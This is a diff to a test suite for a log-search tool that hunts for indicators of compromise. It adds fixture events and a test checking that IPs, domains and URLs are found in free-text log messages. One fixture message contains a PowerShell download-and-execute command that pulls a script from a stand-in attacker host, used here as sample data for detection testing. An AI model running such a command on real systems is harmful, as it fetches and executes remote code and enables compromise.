@@ -68,6 +68,16 @@ describe.skipIf(logEngineAbsent)(name, () => {
         'tls.client.ja4': 'bb22',
         'user_agent.original': 'BadBot/1.0',
       },
+      {
+        '@timestamp': at(41),
+        'host.name': 'pc21.corp.example',
+        message: `IEX (New-Object Net.WebClient).DownloadString('HTTP://Stage.Evil.example:80/a.ps1?x=1,2'); ping 203.0.113.77.`,
+      },
+      {
+        '@timestamp': at(42),
+        'source.ip': '10.0.0.9',
+        extra: { 'asa.text': '10.0.0.9 Accessed URL 203.0.113.77:/x, then 1203.0.113.77, 203.0.113.77.1 and [2001:DB8:0::7]:443' },
+      },
     ]);
   }, 60_000);
   afterAll(() => logs.close());
@@ -94,10 +104,30 @@ describe.skipIf(logEngineAbsent)(name, () => {
     ]);
   });
 
+  it('finds what an event says in its text, as a whole word and once, and names the computer that has no address', async () => {
+    const found = async (one: Indicator) => (await search([one])).filter((line) => line.includes('in the text')).toSorted();
+    expect(await found({ kind: 'ip', value: '203.0.113.77' })).toEqual([
+      'event in the text 10.0.0.9 203.0.113.77 <- ip 203.0.113.77 x1',
+      'event in the text pc21.corp.example 203.0.113.77 <- ip 203.0.113.77 x1',
+    ]);
+    expect(await found({ kind: 'ip', value: '2001:db8::7' })).toEqual(['event in the text 10.0.0.9 2001:db8::7 <- ip 2001:db8::7 x1']);
+    expect(await found({ kind: 'cidr', value: '203.0.113.72/29' })).toHaveLength(2);
+    expect(await found({ kind: 'domain', value: 'evil.example' })).toEqual([
+      'event in the text pc21.corp.example stage.evil.example <- domain evil.example x1',
+    ]);
+    expect(await found({ kind: 'domain', value: 'vil.example' })).toEqual([]);
+    expect(await found({ kind: 'url', value: 'stage.evil.example/a.ps1?x=1,2' })).toEqual([
+      'event in the text pc21.corp.example stage.evil.example/a.ps1?x=1,2 <- url stage.evil.example/a.ps1?x=1,2 x1',
+    ]);
+    // What stands in a column of its own is not found a second time.
+    expect(await found({ kind: 'ip', value: '10.0.0.9' })).toEqual([]);
+  });
+
   it('finds a domain and all below it, whatever its case, port or final dot, and no name that only ends like it', async () => {
     expect((await search([{ kind: 'domain', value: 'evil.example' }])).toSorted()).toEqual([
       'dns question 10.0.0.6 deep.sub.evil.example <- domain evil.example x1',
       'event host 10.0.0.8 evil.example <- domain evil.example x1',
+      'event in the text pc21.corp.example stage.evil.example <- domain evil.example x1',
       'flow host 10.0.0.2 a.b.evil.example <- domain evil.example x1',
       'web host 10.0.0.1 evil.example <- domain evil.example x1',
       'web host 10.0.0.1 www.evil.example <- domain evil.example x1',
